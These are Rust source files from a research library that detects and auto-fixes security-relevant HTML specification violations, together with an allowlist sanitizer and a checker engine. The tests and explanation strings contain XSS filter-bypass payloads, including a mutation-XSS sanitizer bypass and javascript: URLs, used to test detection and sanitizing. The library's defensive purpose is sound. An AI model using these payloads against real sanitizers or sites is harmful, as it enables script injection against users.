                attack: "An injected base href retargets every relative URL — scripts load from the attacker's server (CVE-2020-29653).",
                fix: "Move the base into <head> (automatic).",
            },
            DM2_2 => Explanation {
                behaviour: "Only the first <base> counts; extra ones are dead markup.",
                attack: "An injected base BEFORE the legitimate one silently wins.",
                fix: "Keep exactly one base element (automatic: duplicates dropped).",
            },
            DM2_3 => Explanation {
                behaviour: "<base> must precede every URL-using element; later ones leave earlier URLs resolved against a different base.",
                attack: "Split-base confusion: the same relative URL resolves differently before and after the base.",
                fix: "Move the base to the top of <head> (automatic).",
            },
            DM3 => Explanation {
                behaviour: "Duplicate attribute names raise a parse error; every occurrence after the first is discarded.",
                attack: "Injecting an attribute early invalidates the legitimate one that follows — event handlers, classes, ids.",
                fix: "Deduplicate attributes (automatic: the parser already ignores the extras).",
            },
            HF1 => Explanation {
                behaviour: "A non-head element inside <head> closes the head early; everything after moves into the body.",
                attack: "Injected head content invalidates CSP meta tags and other metadata by relocating them.",
                fix: "Keep only metadata content in <head>; write the head/body tags explicitly.",
            },
            HF2 => Explanation {
                behaviour: "Content after </head> implies <body>, and a later real body tag merely merges.",
                attack: "A dangling tag before <body> can absorb the body tag and its security-relevant attributes (onload checks).",
                fix: "Open <body> explicitly before any content.",
            },
            HF3 => Explanation {
                behaviour: "A second <body> tag is merged: its new attributes are added, conflicting ones ignored.",
                attack: "Injections before/after the real body add or block body attributes (event handlers).",
                fix: "Emit exactly one body tag.",
            },
            HF4 => Explanation {
                behaviour: "Content not allowed in a table is foster-parented in FRONT of the table.",
                attack: "The reordering mutates markup between parses — a core mXSS gadget (the DOMPurify bypass's table hop).",
                fix: "Only table structure inside <table>; use CSS for layout.",
            },
            HF5_1 => Explanation {
                behaviour: "SVG/MathML-only elements parsed in the HTML namespace (fragment pasted without its root).",
                attack: "Namespace confusion feeds mXSS chains and breaks sanitizer assumptions.",
                fix: "Wrap SVG fragments in <svg>, MathML in <math>.",
            },
            HF5_2 => Explanation {
                behaviour: "An HTML breakout element inside <svg> pops all foreign elements.",
                attack: "Content visually 'inside' the SVG is actually outside it in the DOM — mutation gadget.",
                fix: "Keep HTML out of SVG except via <foreignObject>.",
            },
            HF5_3 => Explanation {
                behaviour: "An HTML breakout element inside <math> pops the MathML context.",
                attack: "The Figure-1 DOMPurify bypass: <style> is markup-transparent in MathML, so comments re-arm payloads.",
                fix: "Keep HTML out of MathML; sanitizers should drop math content outright.",
            },
            FB1 => Explanation {
                behaviour: "A '/' between attributes raises unexpected-solidus-in-tag and is treated as whitespace.",
                attack: "<img/src=x/onerror=alert(1)> bypasses filters that block spaces.",
                fix: "Use spaces between attributes (automatic via reserialization).",
            },
            FB2 => Explanation {
                behaviour: "Missing whitespace between attributes raises a parse error; the parser inserts the separator.",
                attack: "<img src=\"x\"onerror=alert(1)> bypasses space-blocking filters — the most common violation on the web.",
                fix: "Separate attributes with spaces (automatic via reserialization).",
            },
        }
    }
}

/// Developer-facing explanation of a violation: behaviour, attack, fix.
#[derive(Debug, Clone, Copy)]
pub struct Explanation {
    /// What the error-tolerant parser does.
    pub behaviour: &'static str,
    /// The attack the tolerance enables.
    pub attack: &'static str,
    /// How a developer repairs the markup.
    pub fix: &'static str,
}

#[cfg(test)]
mod explanation_tests {
    use super::*;

    #[test]
    fn every_kind_has_substantive_explanation() {
        for kind in ViolationKind::ALL {
            let e = kind.explanation();
            assert!(e.behaviour.len() > 40, "{kind} behaviour too thin");
            assert!(e.attack.len() > 30, "{kind} attack too thin");
            assert!(e.fix.len() > 15, "{kind} fix too thin");
        }
    }

    #[test]
    fn automatic_kinds_say_so() {
        for kind in ViolationKind::ALL {
            if kind.fixability() == Fixability::Automatic {
                let fix = kind.explanation().fix.to_ascii_lowercase();
                assert!(fix.contains("automatic"), "{kind} fix text must mention automation");
            }
        }
    }
}
