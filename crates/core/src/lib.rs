//! # hv-core — security-relevant HTML specification violations
//!
//! The primary contribution of *"HTML Violations and Where to Find Them"*
//! (IMC '22), as a library:
//!
//! * [`taxonomy`] — the Table-1 violation list: 14 families / 20 concrete
//!   checks, grouped into Data Exfiltration, Data Manipulation, HTML
//!   Formatting and Filter Bypass, split into Definition Violations and
//!   Parsing Errors, and classified by §4.4 auto-fixability.
//! * [`checkers`] — one logically independent rule per check, written as
//!   an event visitor over the [`spec_html`] parser's error states,
//!   recovery events, start-tag stream and DOM; each rule declares an
//!   [`Interest`] mask naming the sources it consumes.
//! * [`battery`] — the reusable [`Battery`] and its fused dispatch
//!   engine: construct the rule set once (per worker), then analyze each
//!   page in **one pass** over errors → tree events → start tags → DOM →
//!   finish, dispatching every item only to the interested rules;
//!   optionally timing every rule into mergeable [`CheckStats`].
//! * [`autofix`] — the §4.4 automatic repair (serialize-reparse for FB,
//!   duplicate removal for DM3, head relocation for DM1/DM2).
//! * [`checkers::mitigation_flags`] — the §4.5 deployed-mitigation
//!   conflict analysis (`<script` in attributes, newline+`<` URLs).
//!
//! ## Quickstart
//!
//! For a single page, a full [`Battery`] is the shortest path:
//!
//! ```
//! use hv_core::{Battery, ViolationKind};
//!
//! let report = Battery::full().run_str(r#"<img src="x.png"onerror="alert(1)">"#);
//! assert!(report.has(ViolationKind::FB2));
//!
//! let fixed = hv_core::autofix::auto_fix(r#"<img src="x.png"onerror="alert(1)">"#);
//! assert!(!fixed.after.contains(&ViolationKind::FB2));
//! ```
//!
//! When scanning many pages, build one [`Battery`] and reuse it — the rule
//! set is boxed once and the findings buffer is recycled between pages:
//!
//! ```
//! use hv_core::{Battery, CheckContext, ViolationKind};
//!
//! let mut battery = Battery::full();
//! for page in ["<p>fine</p>", "<img src=a src=b>"] {
//!     let cx = CheckContext::new(page);
//!     let report = battery.run_ref(&cx); // borrow, no per-page allocation
//!     if report.has(ViolationKind::DM3) {
//!         assert!(page.contains("src=a"));
//!     }
//! }
//!
//! // Only a subset of rules:
//! let mut fb = Battery::only(&[ViolationKind::FB1, ViolationKind::FB2]);
//! assert_eq!(fb.kinds().len(), 2);
//! ```

pub mod autofix;
pub mod battery;
pub mod checkers;
pub mod context;
pub mod error;
pub mod report;
pub mod sanitizer;
pub mod strict;
pub mod taxonomy;

pub use battery::{Battery, BatteryStats, CheckStats, DurationHistogram, InputError};
pub use checkers::{Check, Interest};
pub use context::CheckContext;
pub use error::HvError;
pub use report::{Finding, MitigationFlags, PageReport};
pub use taxonomy::{Fixability, ProblemGroup, ViolationCategory, ViolationKind};

/// Convenience re-export of the deprecated one-shot shim; use
/// [`Battery::full`] + [`Battery::run_str`] instead.
#[allow(deprecated)]
pub use checkers::check_page;
