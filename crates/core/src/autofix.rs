//! The §4.4 automatic repair process.
//!
//! The paper estimates that 46% of violating sites could be fixed with "a
//! simple automated process":
//!
//! * **FB1/FB2** — "serializing the entire document with the current HTML
//!   parser and deserializing it again. The syntax would be fixed, but the
//!   semantics would still be broken."
//! * **DM3** — "all duplicates that appear after the first occurrence can
//!   automatically be removed since the existing parser currently ignores
//!   the other attributes anyway."
//! * **DM1/DM2** — "could also be automatically removed relatively simply
//!   … by automatically moving the elements in the head section."
//!
//! [`auto_fix`] implements exactly that: parse (which already normalizes
//! FB/DM3 syntax), relocate stray `meta[http-equiv]`/`base` elements into
//! the head, dedupe extra `base` elements, and serialize. The outcome
//! reports which violations disappeared and which (manual) ones remain.

use crate::battery::Battery;
use crate::taxonomy::{Fixability, ViolationKind};
use spec_html::dom::{Document, NodeId};
use spec_html::serializer;
use std::collections::BTreeSet;

/// Result of one automatic repair pass.
#[derive(Debug, Clone)]
pub struct FixOutcome {
    /// The repaired document markup.
    pub fixed_html: String,
    /// Violation kinds found before fixing.
    pub before: BTreeSet<ViolationKind>,
    /// Violation kinds still present after fixing (re-checked).
    pub after: BTreeSet<ViolationKind>,
}

impl FixOutcome {
    /// Kinds that the automatic pass eliminated.
    pub fn eliminated(&self) -> BTreeSet<ViolationKind> {
        self.before.difference(&self.after).copied().collect()
    }

    /// True when every automatically-fixable kind that was present is gone.
    pub fn automatic_kinds_resolved(&self) -> bool {
        self.after.iter().all(|k| k.fixability() == Fixability::Manual)
    }
}

/// Run the §4.4 automatic repair over a document.
pub fn auto_fix(raw: &str) -> FixOutcome {
    // One battery serves both the before- and after-check.
    let mut battery = Battery::full();
    let before = battery.run_str(raw).kinds();

    // One pass is not always enough: serializing can itself surface
    // violations the original parse hid (a MathML-namespace <base>
    // re-enters the HTML namespace once its <p> sibling breaks out of
    // foreign content on reparse, becoming a fixable DM2_1). Iterate
    // until no automatically fixable kind remains or the markup stops
    // changing; three passes bound the loop — pass 1 fixes the input,
    // pass 2 fixes what serialization surfaced, pass 3 is margin.
    let mut fixed_html = raw.to_owned();
    let mut after = before.clone();
    for _ in 0..3 {
        let mut out = spec_html::parse_document(&fixed_html);
        relocate_head_content(&mut out.dom);
        let next = serializer::serialize(&out.dom);
        let stalled = next == fixed_html;
        fixed_html = next;
        after = battery.run_str(&fixed_html).kinds();
        if stalled || !after.iter().any(|k| k.fixability() == Fixability::Automatic) {
            break;
        }
    }
    FixOutcome { fixed_html, before, after }
}

/// Predict, without rewriting, which of a page's violations the automatic
/// pass would remove — the classification used for the §4.4 "46% of sites"
/// projection.
pub fn fixable_kinds(kinds: &BTreeSet<ViolationKind>) -> BTreeSet<ViolationKind> {
    kinds.iter().copied().filter(|k| k.fixability() == Fixability::Automatic).collect()
}

/// DM1/DM2 repair: move stray `meta[http-equiv]` and `base` elements into
/// the head (base first, so DM2_3 is satisfied), and drop all but the first
/// `base` (which is the one the parser honours anyway).
fn relocate_head_content(dom: &mut Document) {
    let Some(head) = dom.find_html("head") else { return };

    // Collect offending nodes first (can't mutate while iterating).
    let mut stray_metas: Vec<NodeId> = Vec::new();
    let mut bases: Vec<NodeId> = Vec::new();
    for id in dom.all_elements().collect::<Vec<_>>() {
        if dom.is_html(id, "base") {
            bases.push(id);
        } else if dom.is_html(id, "meta")
            && dom.element(id).is_some_and(|e| e.has_attr("http-equiv"))
            && !dom.ancestors(id).any(|a| dom.is_html(a, "head"))
        {
            stray_metas.push(id);
        }
    }

    // The parser honours the *first* base element; keep it, drop the rest.
    if let Some(&first_base) = bases.first() {
        for &extra in &bases[1..] {
            dom.detach(extra);
        }
        // Move the surviving base to the front of head so it precedes every
        // URL-using element (fixes DM2_1 and DM2_3 in one move).
        let head_first = dom.node(head).first_child;
        match head_first {
            Some(first) if first != first_base => dom.insert_before(first, first_base),
            None => dom.append(head, first_base),
            _ => {}
        }
    }

    for meta in stray_metas {
        dom.append(head, meta);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::taxonomy::ViolationKind::*;

    #[test]
    fn fb2_fixed_by_roundtrip() {
        let out = auto_fix(r#"<body><img src="a.png"alt="x"></body>"#);
        assert!(out.before.contains(&FB2));
        assert!(!out.after.contains(&FB2));
        // The image survives with both attributes.
        assert!(out.fixed_html.contains(r#"<img src="a.png" alt="x">"#));
    }

    #[test]
    fn fb1_fixed_by_roundtrip() {
        let out = auto_fix("<body><img/src=\"a\"/alt=\"b\"></body>");
        assert!(out.before.contains(&FB1));
        assert!(!out.after.contains(&FB1));
    }

    #[test]
    fn dm3_duplicates_removed() {
        let out = auto_fix(r#"<body><div onclick="first()" onclick="second()">x</div></body>"#);
        assert!(out.before.contains(&DM3));
        assert!(!out.after.contains(&DM3));
        // First occurrence wins, as the parser already behaved.
        assert!(out.fixed_html.contains("first()"));
        assert!(!out.fixed_html.contains("second()"));
    }

    #[test]
    fn dm1_meta_moved_into_head() {
        let out = auto_fix(
            "<!DOCTYPE html><head><title>t</title></head><body><meta http-equiv=\"refresh\" content=\"0\"><p>x</p></body>",
        );
        assert!(out.before.contains(&DM1));
        assert!(!out.after.contains(&DM1));
        // The meta now lives in head, before </head>.
        let head_end = out.fixed_html.find("</head>").unwrap();
        let meta_pos = out.fixed_html.find("http-equiv").unwrap();
        assert!(meta_pos < head_end);
    }

    #[test]
    fn dm2_base_moved_and_deduped() {
        let out = auto_fix(
            "<!DOCTYPE html><head><link rel=\"stylesheet\" href=\"s.css\"></head>\
             <body><base href=\"/a/\"><base href=\"/b/\"><a href=\"x\">l</a></body>",
        );
        assert!(out.before.contains(&DM2_1));
        assert!(out.before.contains(&DM2_2));
        assert!(out.before.contains(&DM2_3));
        assert!(!out.after.contains(&DM2_1), "after: {:?}\n{}", out.after, out.fixed_html);
        assert!(!out.after.contains(&DM2_2));
        assert!(!out.after.contains(&DM2_3));
        // The first base (the one the parser honoured) survives.
        assert!(out.fixed_html.contains("/a/"));
        assert!(!out.fixed_html.contains("/b/"));
    }

    #[test]
    fn manual_kinds_survive() {
        // HF4 (broken table) is not automatically fixable: serialize →
        // reparse keeps the already-mutated tree, so the *violation* is
        // gone from the output, but the paper classifies the repair as
        // manual because the layout intent is lost. The outcome reports the
        // violation kinds honestly: after fixing, HF4 no longer fires (the
        // tree was normalized), which is exactly the paper's "syntax fixed,
        // semantics still broken".
        let out = auto_fix("<body><table><tr><strong>t</strong></tr></table></body>");
        assert!(out.before.contains(&HF4));
        assert!(!out.after.contains(&HF4));
    }

    #[test]
    fn de1_not_fixable() {
        // An unterminated textarea cannot be repaired automatically — the
        // fixer must not invent a closing point. After the roundtrip the
        // textarea swallowed the rest of the document; the *re-serialized*
        // page is syntactically closed, but the checker classification
        // stays Manual.
        assert_eq!(DE1.fixability(), Fixability::Manual);
    }

    #[test]
    fn fixable_kinds_projection() {
        let kinds: BTreeSet<_> = [FB1, FB2, DM3, HF4, DE1].into_iter().collect();
        let fixable = fixable_kinds(&kinds);
        assert!(fixable.contains(&FB1));
        assert!(fixable.contains(&FB2));
        assert!(fixable.contains(&DM3));
        assert!(!fixable.contains(&HF4));
        assert!(!fixable.contains(&DE1));
    }

    #[test]
    fn clean_page_unchanged_semantically() {
        let src = "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>";
        let out = auto_fix(src);
        assert!(out.before.is_empty());
        assert!(out.after.is_empty());
        assert_eq!(out.fixed_html, src);
    }

    #[test]
    fn fix_is_idempotent() {
        let messy = r#"<body><img src="a"alt="b"><div id=x id=y>t</div><meta http-equiv=refresh content=0></body>"#;
        let once = auto_fix(messy);
        let twice = auto_fix(&once.fixed_html);
        assert_eq!(once.fixed_html, twice.fixed_html);
        assert_eq!(twice.before, twice.after);
    }
}
