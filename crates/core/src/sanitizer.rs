//! A string-to-string HTML sanitizer built on fragment parsing — the class
//! of defense the paper's §2.2 shows being bypassed by mutation XSS.
//!
//! Two configurations are provided:
//!
//! * [`Sanitizer::permissive`] mimics the pre-2.1 DOMPurify posture the
//!   paper's Figure 1 bypassed: MathML/SVG elements are allowed, and the
//!   output is serialized once. Its output *re-parses differently* for
//!   namespace-confusion payloads — the mXSS gap.
//! * [`Sanitizer::hardened`] closes that gap the way post-bypass sanitizers
//!   did: foreign-content elements are dropped entirely **and** the output
//!   is re-sanitized until it is a parse/serialize fixpoint, so what the
//!   sanitizer returns is exactly what the browser will build.
//!
//! This module exists to make the paper's argument concrete in code: the
//! vulnerability lives in the *parser's error tolerance*, and every
//! string-level defense has to out-guess it.

use spec_html::dom::{Document, NodeData, NodeId};
use spec_html::{parse_fragment, serializer, Namespace};
use std::collections::BTreeSet;

/// Maximum re-sanitize rounds before giving up and returning empty output
/// (defense-in-depth against non-converging inputs; in practice one extra
/// round suffices).
const MAX_ROUNDS: usize = 5;

/// An allowlist-based HTML sanitizer.
#[derive(Debug, Clone)]
pub struct Sanitizer {
    allowed_elements: BTreeSet<&'static str>,
    allowed_attributes: BTreeSet<&'static str>,
    /// Allow MathML/SVG subtrees (the permissive posture Figure 1 abuses).
    allow_foreign: bool,
    /// Re-sanitize until the output is a parse/serialize fixpoint.
    stabilize: bool,
}

const SAFE_ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "article",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "dd",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "li",
    "main",
    "nav",
    "ol",
    "p",
    "pre",
    "s",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

const FOREIGN_ELEMENTS: &[&str] = &[
    "math",
    "mtext",
    "mi",
    "mo",
    "mn",
    "ms",
    "mglyph",
    "mrow",
    "annotation-xml",
    "svg",
    "title",
    "desc",
    "path",
    "circle",
    "rect",
    "g",
    "style",
];

const SAFE_ATTRIBUTES: &[&str] = &[
    "alt", "class", "colspan", "dir", "height", "href", "id", "lang", "rowspan", "src", "title",
    "width",
];

impl Sanitizer {
    /// The permissive, Figure-1-vulnerable configuration.
    pub fn permissive() -> Self {
        Sanitizer {
            allowed_elements: SAFE_ELEMENTS.iter().chain(FOREIGN_ELEMENTS).copied().collect(),
            allowed_attributes: SAFE_ATTRIBUTES.iter().copied().collect(),
            allow_foreign: true,
            stabilize: false,
        }
    }

    /// The hardened configuration: no foreign content, output stabilized to
    /// a parse fixpoint.
    pub fn hardened() -> Self {
        Sanitizer {
            allowed_elements: SAFE_ELEMENTS.iter().copied().collect(),
            allowed_attributes: SAFE_ATTRIBUTES.iter().copied().collect(),
            allow_foreign: false,
            stabilize: true,
        }
    }

    /// Sanitize an HTML string in a `div` context (innerHTML semantics).
    pub fn sanitize(&self, html: &str) -> String {
        let mut out = self.sanitize_once(html);
        if self.stabilize {
            for _ in 0..MAX_ROUNDS {
                let again = self.sanitize_once(&out);
                if again == out {
                    return out;
                }
                out = again;
            }
            // Did not converge: fail closed.
            return String::new();
        }
        out
    }

    fn sanitize_once(&self, html: &str) -> String {
        let parsed = parse_fragment(html, "div");
        let mut dom = parsed.dom;
        let root = dom.children(dom.root()).next().expect("fragment parse always yields a root");
        self.clean(&mut dom, root);
        serializer::serialize_children(&dom, root)
    }

    /// Walk the subtree, removing disallowed elements (with their content:
    /// fail closed) and disallowed or dangerous attributes.
    fn clean(&self, dom: &mut Document, node: NodeId) {
        let children: Vec<NodeId> = dom.children(node).collect();
        for child in children {
            let remove = match &dom.node(child).data {
                NodeData::Element(e) => {
                    let foreign = e.ns != Namespace::Html;
                    let name = e.name.to_ascii_lowercase();
                    !self.allowed_elements.contains(name.as_str())
                        || (foreign && !self.allow_foreign)
                }
                NodeData::Comment(_) => true, // comments hide payload halves
                NodeData::Doctype { .. } => true,
                NodeData::Text(_) | NodeData::Document => false,
            };
            if remove {
                dom.detach(child);
                continue;
            }
            if let Some(e) = dom.element_mut(child) {
                e.attrs.retain(|a| {
                    let name = a.name.to_ascii_lowercase();
                    if !self.allowed_attributes.contains(name.as_str()) {
                        return false;
                    }
                    if name == "href" || name == "src" {
                        let v = a.value.trim().to_ascii_lowercase();
                        if v.starts_with("javascript:") || v.starts_with("data:") {
                            return false;
                        }
                    }
                    true
                });
            }
            self.clean(dom, child);
        }
    }
}

/// Whether markup would execute script when parsed by a browser: an
/// element with an event-handler attribute, a script element, or a
/// javascript: URL. Used by tests and demos as the "did the XSS fire"
/// oracle.
pub fn is_executable(html: &str) -> bool {
    let out = spec_html::parse_document(html);
    for id in out.dom.all_elements() {
        let e = out.dom.element(id).unwrap();
        if e.name.eq_ignore_ascii_case("script") && e.ns == Namespace::Html {
            return true;
        }
        for a in &e.attrs {
            if a.name.starts_with("on") {
                return true;
            }
            if (a.name == "href" || a.name == "src")
                && a.value.trim().to_ascii_lowercase().starts_with("javascript:")
            {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    const FIGURE1: &str = concat!(
        "<math><mtext><table><mglyph><style><!--</style>",
        "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    );

    #[test]
    fn benign_markup_passes_through() {
        for s in [Sanitizer::permissive(), Sanitizer::hardened()] {
            let out = s.sanitize("<p>hello <b>world</b></p>");
            assert_eq!(out, "<p>hello <b>world</b></p>");
        }
    }

    #[test]
    fn script_elements_removed() {
        let out = Sanitizer::permissive().sanitize("<p>a</p><script>alert(1)</script>");
        assert_eq!(out, "<p>a</p>");
        assert!(!is_executable(&out));
    }

    #[test]
    fn event_handlers_stripped() {
        let out = Sanitizer::permissive().sanitize(r#"<img src="x.png" onerror="alert(1)">"#);
        assert_eq!(out, r#"<img src="x.png">"#);
    }

    #[test]
    fn javascript_urls_stripped() {
        let out = Sanitizer::hardened().sanitize(r#"<a href="javascript:alert(1)">x</a>"#);
        assert_eq!(out, "<a>x</a>");
    }

    #[test]
    fn filter_bypass_payloads_are_neutralized_syntactically() {
        // FB1/FB2 style payloads: parsing normalizes them, the attribute
        // allowlist strips the handler.
        for payload in [r#"<img/src="x"/onerror="alert(1)">"#, r#"<img src="x"onerror="alert(1)">"#]
        {
            let out = Sanitizer::hardened().sanitize(payload);
            assert_eq!(out, r#"<img src="x">"#);
        }
    }

    /// The paper's Figure 1: the permissive sanitizer APPROVES the payload
    /// (no script, no handler visible to it), yet its output becomes
    /// executable when the browser parses it again — mutation XSS.
    #[test]
    fn permissive_sanitizer_is_bypassed_by_figure1() {
        let sanitizer = Sanitizer::permissive();
        let out = sanitizer.sanitize(FIGURE1);
        // The payload itself is inert (the alert hides in a title
        // attribute), which is why the sanitizer approves it…
        assert!(!is_executable(FIGURE1));
        // …but the serialized output, REPARSED, contains a live handler.
        assert!(
            is_executable(&out),
            "Figure-1 mXSS must bypass the permissive sanitizer; output was:\n{out}"
        );
    }

    #[test]
    fn hardened_sanitizer_stops_figure1() {
        let out = Sanitizer::hardened().sanitize(FIGURE1);
        assert!(!is_executable(&out), "hardened output must stay inert:\n{out}");
        // And the output is stable under re-parsing (the fixpoint
        // guarantee).
        let re = Sanitizer::hardened().sanitize(&out);
        assert_eq!(re, out);
    }

    #[test]
    fn hardened_output_is_always_a_fixpoint() {
        let tricky = [
            FIGURE1,
            "<table><a href='x'>1<div>2<div>3</a></table>",
            "<b><i>x</b></i><table><td><b>y",
            "<svg><desc><b>z</b></desc></svg>",
        ];
        let s = Sanitizer::hardened();
        for t in tricky {
            let out = s.sanitize(t);
            assert_eq!(s.sanitize(&out), out, "not a fixpoint for {t}");
            assert!(!is_executable(&out), "{t}");
        }
    }

    #[test]
    fn executability_oracle() {
        assert!(is_executable("<script>x</script>"));
        assert!(is_executable("<img src=1 onerror=a()>"));
        assert!(is_executable("<a href='javascript:x()'>l</a>"));
        assert!(!is_executable("<p>hi</p>"));
        // A script inside an attribute value is NOT executable (that is
        // the point of the mXSS mutation step).
        assert!(!is_executable(r#"<img title="<img src=1 onerror=alert(1)>">"#));
    }
}
