//! A reusable checker battery with a fused dispatch engine.
//!
//! [`Battery`] packages the rule set ([`checkers::all_checks`]) together
//! with a reusable output buffer, so a scan constructs the battery **once
//! per worker** and then runs it over every page with zero per-page setup:
//! no re-boxing of the twenty checkers and, via [`Battery::run_ref`], no
//! per-page findings allocation either.
//!
//! Running a page is **one fused pass**, not twenty scans: the battery
//! precomputes from each rule's [`checkers::Interest`] mask which rules
//! want parse errors, tree events, start tags, DOM nodes, or a finish
//! call, then walks each source exactly once — errors → events → start
//! tags → pre-order DOM → finish — dispatching every item only to the
//! rules that asked for it. Whole passes are skipped when no rule in the
//! battery wants them (the tag pass always runs: it also feeds the §4.5
//! mitigation flags). Findings are sorted by `(kind, offset)` at the end;
//! since every kind belongs to exactly one rule and each rule sees its
//! items in the same source order the pre-fusion per-rule scans used, the
//! output is byte-identical to [`checkers::legacy`].
//!
//! The battery also carries the observability hooks of the page-granular
//! scan engine: [`Battery::run_instrumented`] times each rule and feeds
//! per-check [`CheckStats`] (fire counts, dispatch counts, and
//! log₂-bucketed wall-time histograms) that merge losslessly across
//! workers. Timing accumulates per handler dispatch but is recorded once
//! per page per rule, so histogram counts still equal pages analyzed.
//!
//! ```
//! use hv_core::{Battery, ViolationKind};
//!
//! let mut battery = Battery::full();
//! let report = battery.run_str(r#"<img src="x.png"onerror="alert(1)">"#);
//! assert!(report.has(ViolationKind::FB2));
//!
//! // Restrict the rule set; everything else never runs.
//! let mut fb_only = Battery::only(&[ViolationKind::FB1, ViolationKind::FB2]);
//! assert_eq!(fb_only.kinds().len(), 2);
//! ```

use crate::checkers::{self, Check, Interest, MitigationAccumulator};
use crate::context::CheckContext;
use crate::report::PageReport;
use crate::taxonomy::ViolationKind;
use serde::{Deserialize, Serialize};
use std::time::Instant;

/// Why a raw byte body could not be analyzed. Returned by
/// [`Battery::try_run_bytes`] so callers classify the page instead of
/// silently dropping it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InputError {
    /// Not valid UTF-8 — excluded by the study's §4.1 inclusion filter.
    NotUtf8 {
        /// Byte offset of the first invalid sequence.
        valid_up_to: usize,
    },
    /// The body exceeds the caller's byte budget; refused before decoding.
    TooLarge { len: usize, budget: usize },
}

impl std::fmt::Display for InputError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            InputError::NotUtf8 { valid_up_to } => {
                write!(f, "body is not valid UTF-8 (first invalid byte at {valid_up_to})")
            }
            InputError::TooLarge { len, budget } => {
                write!(f, "body of {len} bytes exceeds the {budget}-byte budget")
            }
        }
    }
}

impl std::error::Error for InputError {}

/// A constructed-once, run-many checker battery with a reusable scratch
/// report. See the [module docs](self) for the design.
pub struct Battery {
    checks: Vec<Box<dyn Check>>,
    kinds: Vec<ViolationKind>,
    /// Dispatch tables: indices into `checks` per source, precomputed from
    /// each rule's [`Interest`] mask at construction.
    errors_idx: Vec<usize>,
    events_idx: Vec<usize>,
    tags_idx: Vec<usize>,
    dom_idx: Vec<usize>,
    finish_idx: Vec<usize>,
    /// Per-rule instrumentation scratch for one page (zeroed after use).
    scratch: Vec<Scratch>,
    /// Reused output buffer for [`Battery::run_ref`]; findings capacity is
    /// retained across pages.
    report: PageReport,
}

/// Per-page, per-rule instrumentation accumulator: handler time and
/// findings are summed across a rule's dispatches, then folded into
/// [`CheckStats`] once per page.
#[derive(Clone, Copy, Default)]
struct Scratch {
    nanos: u64,
    fired: u64,
    dispatches: u64,
}

impl Battery {
    /// The full rule set, in taxonomy order — one checker per Figure-8 bar.
    pub fn full() -> Self {
        Battery::from_checks(checkers::all_checks())
    }

    /// A battery restricted to the given kinds (order and duplicates in
    /// `kinds` are irrelevant; the taxonomy order is kept).
    pub fn only(kinds: &[ViolationKind]) -> Self {
        let checks =
            checkers::all_checks().into_iter().filter(|c| kinds.contains(&c.kind())).collect();
        Battery::from_checks(checks)
    }

    fn from_checks(checks: Vec<Box<dyn Check>>) -> Self {
        let kinds = checks.iter().map(|c| c.kind()).collect();
        let table = |want: Interest| -> Vec<usize> {
            checks
                .iter()
                .enumerate()
                .filter(|(_, c)| c.interest().contains(want))
                .map(|(i, _)| i)
                .collect()
        };
        let scratch = vec![Scratch::default(); checks.len()];
        Battery {
            errors_idx: table(Interest::ERRORS),
            events_idx: table(Interest::EVENTS),
            tags_idx: table(Interest::START_TAGS),
            dom_idx: table(Interest::DOM),
            finish_idx: table(Interest::FINISH),
            scratch,
            checks,
            kinds,
            report: PageReport::default(),
        }
    }

    /// The kinds this battery runs, in execution (taxonomy) order.
    pub fn kinds(&self) -> &[ViolationKind] {
        &self.kinds
    }

    /// Number of rules in the battery.
    pub fn len(&self) -> usize {
        self.checks.len()
    }

    pub fn is_empty(&self) -> bool {
        self.checks.is_empty()
    }

    /// The fused pass: one walk per dispatch source, every item handed
    /// only to the rules whose [`Interest`] asked for it. `instrument`
    /// accumulates per-dispatch time and fire counts into the scratch
    /// table; the caller folds scratch into [`CheckStats`] afterwards.
    fn run_fused(&mut self, cx: &CheckContext<'_>, instrument: bool) {
        let Battery {
            checks,
            errors_idx,
            events_idx,
            tags_idx,
            dom_idx,
            finish_idx,
            scratch,
            report,
            ..
        } = self;
        for c in checks.iter_mut() {
            c.reset();
        }
        let out = &mut report.findings;
        out.clear();

        /// One handler call, optionally timed into the rule's scratch slot.
        macro_rules! dispatch {
            ($i:expr, $call:expr) => {{
                if instrument {
                    let before = out.len();
                    let t0 = Instant::now();
                    $call;
                    let s = &mut scratch[$i];
                    s.nanos += t0.elapsed().as_nanos() as u64;
                    s.fired += (out.len() - before) as u64;
                    s.dispatches += 1;
                } else {
                    $call;
                }
            }};
        }

        if !errors_idx.is_empty() {
            for err in &cx.parse.errors {
                for &i in errors_idx.iter() {
                    dispatch!(i, checks[i].on_parse_error(cx, err, out));
                }
            }
        }

        if !events_idx.is_empty() {
            for ev in &cx.parse.events {
                for &i in events_idx.iter() {
                    dispatch!(i, checks[i].on_tree_event(cx, ev, out));
                }
            }
        }

        // The tag pass always runs: the §4.5 mitigation flags fold over
        // the same stream even when no rule wants tags.
        let mut mitigations = MitigationAccumulator::default();
        for tag in cx.start_tags() {
            mitigations.observe(tag);
            for &i in tags_idx.iter() {
                dispatch!(i, checks[i].on_start_tag(cx, tag, out));
            }
        }

        if !dom_idx.is_empty() {
            for id in cx.parse.dom.all_elements() {
                for &i in dom_idx.iter() {
                    dispatch!(i, checks[i].on_node(cx, id, out));
                }
            }
        }

        for &i in finish_idx.iter() {
            dispatch!(i, checks[i].finish(cx, out));
        }

        out.sort_by_key(|f| (f.kind, f.offset));
        report.mitigations = mitigations.finish();
    }

    /// Run the battery, reusing the internal report buffer. The returned
    /// reference is valid until the next `run_*` call; use this in hot
    /// loops that only *read* the per-page result.
    pub fn run_ref(&mut self, cx: &CheckContext<'_>) -> &PageReport {
        self.run_fused(cx, false);
        &self.report
    }

    /// Run the battery and return an owned [`PageReport`].
    pub fn run(&mut self, cx: &CheckContext<'_>) -> PageReport {
        self.run_ref(cx).clone()
    }

    /// Parse `raw` as a full document and run the battery over it.
